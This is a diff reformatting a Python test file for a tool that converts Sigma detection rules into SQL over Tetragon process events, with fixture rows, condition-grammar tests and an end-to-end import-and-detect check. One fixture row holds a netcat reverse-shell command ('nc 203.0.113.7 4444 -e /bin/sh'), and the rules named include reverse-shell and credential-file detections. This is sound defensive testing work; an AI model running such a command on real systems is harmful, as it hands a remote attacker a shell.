@@ -17,14 +17,50 @@ from tetrapipe.ruleset.sigma import SigmaError, condition_sql, convert, import_s
 SIGMA = Path(__file__).parent / "sigma"
 
 ROWS = [  # a few events as the schema has them; the tests ask which of them a detection selects
-    {"id": 1, "process_binary": "/usr/bin/nc", "arguments": "203.0.113.7 4444 -e /bin/sh", "parent_binary": "/bin/bash",
-     "daddr": "203.0.113.7", "dport": 4444, "kind": "process_exec", "function_name": None, "pid": 10},
-    {"id": 2, "process_binary": "/usr/bin/NC", "arguments": "-l 127.0.0.1 8080", "parent_binary": "/bin/sh",
-     "daddr": "10.1.2.3", "dport": 8080, "kind": "process_kprobe", "function_name": "tcp_connect", "pid": 20},
-    {"id": 3, "process_binary": "/opt/app/100%_done*", "arguments": None, "parent_binary": None,
-     "daddr": "fd00::1", "dport": 443, "kind": "process_kprobe", "function_name": "tcp_connect", "pid": 30},
-    {"id": 4, "process_binary": "/opt/app/100x-done", "arguments": "a=b", "parent_binary": "/usr/bin/python3",
-     "daddr": None, "dport": None, "kind": "process_exec", "function_name": None, "pid": 40},
+    {
+        "id": 1,
+        "process_binary": "/usr/bin/nc",
+        "arguments": "203.0.113.7 4444 -e /bin/sh",
+        "parent_binary": "/bin/bash",
+        "daddr": "203.0.113.7",
+        "dport": 4444,
+        "kind": "process_exec",
+        "function_name": None,
+        "pid": 10,
+    },
+    {
+        "id": 2,
+        "process_binary": "/usr/bin/NC",
+        "arguments": "-l 127.0.0.1 8080",
+        "parent_binary": "/bin/sh",
+        "daddr": "10.1.2.3",
+        "dport": 8080,
+        "kind": "process_kprobe",
+        "function_name": "tcp_connect",
+        "pid": 20,
+    },
+    {
+        "id": 3,
+        "process_binary": "/opt/app/100%_done*",
+        "arguments": None,
+        "parent_binary": None,
+        "daddr": "fd00::1",
+        "dport": 443,
+        "kind": "process_kprobe",
+        "function_name": "tcp_connect",
+        "pid": 30,
+    },
+    {
+        "id": 4,
+        "process_binary": "/opt/app/100x-done",
+        "arguments": "a=b",
+        "parent_binary": "/usr/bin/python3",
+        "daddr": None,
+        "dport": None,
+        "kind": "process_exec",
+        "function_name": None,
+        "pid": 40,
+    },
 ]
 
 
@@ -32,11 +68,15 @@ def select(detection: dict[str, Any]) -> list[int]:
     """The ids of ROWS the converted condition is true for, evaluated by DuckDB itself."""
     cols = list(ROWS[0])
     con = duckdb.connect()
-    con.execute("CREATE TABLE events (id INT, process_binary VARCHAR, arguments VARCHAR, parent_binary VARCHAR, "
-                "daddr VARCHAR, dport BIGINT, kind VARCHAR, function_name VARCHAR, pid BIGINT, "
-                "parent_arguments VARCHAR, cwd VARCHAR, protocol VARCHAR)")
-    con.executemany(f"INSERT INTO events ({', '.join(cols)}) VALUES ({', '.join('?' * len(cols))})",
-                    [[r[c] for c in cols] for r in ROWS])
+    con.execute(
+        "CREATE TABLE events (id INT, process_binary VARCHAR, arguments VARCHAR, parent_binary VARCHAR, "
+        "daddr VARCHAR, dport BIGINT, kind VARCHAR, function_name VARCHAR, pid BIGINT, "
+        "parent_arguments VARCHAR, cwd VARCHAR, protocol VARCHAR)"
+    )
+    con.executemany(
+        f"INSERT INTO events ({', '.join(cols)}) VALUES ({', '.join('?' * len(cols))})",
+        [[r[c] for c in cols] for r in ROWS],
+    )
     sql = condition_sql(detection)
     return [r[0] for r in con.execute(f"SELECT id FROM events WHERE {sql} ORDER BY id").fetchall()]
 
@@ -72,8 +112,11 @@ def test_regex_numbers_nulls_cidr_and_fieldref() -> None:
 
 
 def test_condition_grammar_and_null_safe_not() -> None:
-    det = {"sel_nc": {"Image|endswith": "/nc"}, "sel_py": {"ParentImage|endswith": "/python3"},
-           "filter_local": {"CommandLine|contains": "127.0.0.1"}}
+    det = {
+        "sel_nc": {"Image|endswith": "/nc"},
+        "sel_py": {"ParentImage|endswith": "/python3"},
+        "filter_local": {"CommandLine|contains": "127.0.0.1"},
+    }
     assert select({**det, "condition": "1 of sel_*"}) == [1, 2, 4]
     assert select({**det, "condition": "all of sel_*"}) == []
     assert select({**det, "condition": "1 of sel_* and not filter_local"}) == [1, 4]
@@ -83,8 +126,10 @@ def test_condition_grammar_and_null_safe_not() -> None:
     # row 3 has no arguments and no parent: "not filter" is true for it, as in Sigma
     assert select({**det, "condition": "not filter_local and not sel_nc"}) == [3, 4]
     assert select({**det, "condition": ["sel_py", "sel_nc"]}) == [1, 2, 4]  # a list of conditions is an OR
-    assert select({"s": [{"Image|endswith": "/nc", "DestinationPort": 4444}, {"ProcessId": 40}],
-                   "condition": "s"}) == [1, 4]
+    assert select({"s": [{"Image|endswith": "/nc", "DestinationPort": 4444}, {"ProcessId": 40}], "condition": "s"}) == [
+        1,
+        4,
+    ]
 
 
 def test_like_pattern_escapes() -> None:
@@ -93,17 +138,20 @@ def test_like_pattern_escapes() -> None:
     assert like_pattern("x", prefix=True, suffix=True) == "%x%"
 
 
-@pytest.mark.parametrize(("doc", "reason"), [
-    ({"detection": {"k": ["whoami", "id"], "condition": "k"}}, "keyword searches"),
-    ({"detection": {"s": {"CommandLine|base64offset|contains": "x"}, "condition": "s"}}, "|base64offset"),
-    ({"detection": {"s": {"Image": "/x"}, "condition": "s | count() by Image > 5"}}, "aggregations"),
-    ({"detection": {"s": {"Hostname": "x"}, "condition": "s"}}, "field Hostname has no counterpart"),
-    ({"detection": {"s": {"User": "root"}, "condition": "s"}}, "not user names"),
-    ({"detection": {"s": {"DestinationIp|cidr": "10.0.0.300/8"}, "condition": "s"}}, "not a network"),
-    ({"detection": {"s": {"Image": "/x"}, "condition": "s and t"}}, "no search identifier 't'"),
-    ({"detection": {"s": {"Image": "/x"}, "condition": "1 of x_*"}}, "matches no search identifier"),
-    ({"detection": {"s": {"Image|endswith|sometimes": "/x"}, "condition": "s"}}, "unknown modifier |sometimes"),
-])
+@pytest.mark.parametrize(
+    ("doc", "reason"),
+    [
+        ({"detection": {"k": ["whoami", "id"], "condition": "k"}}, "keyword searches"),
+        ({"detection": {"s": {"CommandLine|base64offset|contains": "x"}, "condition": "s"}}, "|base64offset"),
+        ({"detection": {"s": {"Image": "/x"}, "condition": "s | count() by Image > 5"}}, "aggregations"),
+        ({"detection": {"s": {"Hostname": "x"}, "condition": "s"}}, "field Hostname has no counterpart"),
+        ({"detection": {"s": {"User": "root"}, "condition": "s"}}, "not user names"),
+        ({"detection": {"s": {"DestinationIp|cidr": "10.0.0.300/8"}, "condition": "s"}}, "not a network"),
+        ({"detection": {"s": {"Image": "/x"}, "condition": "s and t"}}, "no search identifier 't'"),
+        ({"detection": {"s": {"Image": "/x"}, "condition": "1 of x_*"}}, "matches no search identifier"),
+        ({"detection": {"s": {"Image|endswith|sometimes": "/x"}, "condition": "s"}}, "unknown modifier |sometimes"),
+    ],
+)
 def test_what_cannot_be_kept_is_refused_with_the_reason(doc: dict[str, Any], reason: str) -> None:
     doc = {"title": "t", "logsource": {"product": "linux", "category": "process_creation"}, **doc}
     with pytest.raises(SigmaError, match=reason.replace("|", r"\|").replace("(", r"\(")):
@@ -115,8 +163,9 @@ def test_log_sources() -> None:
     with pytest.raises(SigmaError, match="service 'auditd'"):
         convert({"title": "t", "logsource": {"product": "linux", "service": "auditd"}, "detection": det}, Path("a"))
     with pytest.raises(SigmaError, match="category 'image_load'"):
-        convert({"title": "t", "logsource": {"product": "linux", "category": "image_load"}, "detection": det},
-                Path("a"))
+        convert(
+            {"title": "t", "logsource": {"product": "linux", "category": "image_load"}, "detection": det}, Path("a")
+        )
     report = import_sigma([SIGMA])
     assert report.other_platforms == {"windows": 1}
     assert [p.name for p, _ in report.refused] == ["user-field.yml"]
@@ -133,28 +182,41 @@ def test_import_then_detect_on_the_scenario(tmp_path: Path) -> None:
     """CLI end to end: import, the rules load and lint, and fire on exactly the scenario lines they describe."""
     out = tmp_path / "rules"
     cli = [sys.executable, "-m", "tetrapipe"]
-    run = subprocess.run([*cli, "rules", "import-sigma", str(SIGMA), "--out", str(out)], capture_output=True,
-                         text=True, timeout=120)
+    run = subprocess.run(
+        [*cli, "rules", "import-sigma", str(SIGMA), "--out", str(out)], capture_output=True, text=True, timeout=120
+    )
     assert run.returncode == 1, run.stdout + run.stderr  # user-field.yml is refused
     assert "3 converted, 1 refused, 1 for other platforms (1 windows)" in run.stdout
     assert "field User: Tetragon reports uids" in run.stdout
     assert len(list(out.glob("*.yaml"))) == 3
-    again = subprocess.run([*cli, "rules", "import-sigma", str(SIGMA / "passwd-modified.yml"), "--out", str(out)],
-                           capture_output=True, text=True, timeout=120)
+    again = subprocess.run(
+        [*cli, "rules", "import-sigma", str(SIGMA / "passwd-modified.yml"), "--out", str(out)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert again.returncode == 1 and "exists (--force to overwrite)" in again.stdout
     untested = subprocess.run([*cli, "rules", "test", str(out)], capture_output=True, text=True, timeout=120)
     assert untested.returncode == 5 and "3 rules without tests" in untested.stderr  # not a green CI job
     lint = subprocess.run([*cli, "rules", "lint", str(out)], capture_output=True, text=True, timeout=120)
     assert "0 errors" in lint.stdout + lint.stderr, lint.stdout + lint.stderr
     lake = tmp_path / "lake"
-    subprocess.run([*cli, "ingest", str(REPO / "samples" / "scenario"), "--rules", str(out), "--lake", str(lake),
-                    "-q"], check=True, capture_output=True, timeout=120)
+    subprocess.run(
+        [*cli, "ingest", str(REPO / "samples" / "scenario"), "--rules", str(out), "--lake", str(lake), "-q"],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
     from tetrapipe import history
 
     con = history.connect(str(lake))
-    fired = con.sql("SELECT a.rule_id, e.source_offset FROM alerts a JOIN events e ON e.event_id = a.event_ids[1] "
-                    "ORDER BY e.source_offset").fetchall()
+    fired = con.sql(
+        "SELECT a.rule_id, e.source_offset FROM alerts a JOIN events e ON e.event_id = a.event_ids[1] "
+        "ORDER BY e.source_offset"
+    ).fetchall()
     con.close()
-    assert fired == [("sigma-credential-file-modified-0c4a9e2d", 107),
-                     ("sigma-netcat-handing-a-shell-to-a-remote-peer-6f1d2b7e", 116),
-                     ("sigma-outbound-connection-to-a-port-favoured-by-reverse-shells-9e2f7a41", 117)]
+    assert fired == [
+        ("sigma-credential-file-modified-0c4a9e2d", 107),
+        ("sigma-netcat-handing-a-shell-to-a-remote-peer-6f1d2b7e", 116),
+        ("sigma-outbound-connection-to-a-port-favoured-by-reverse-shells-9e2f7a41", 117),
+    ]
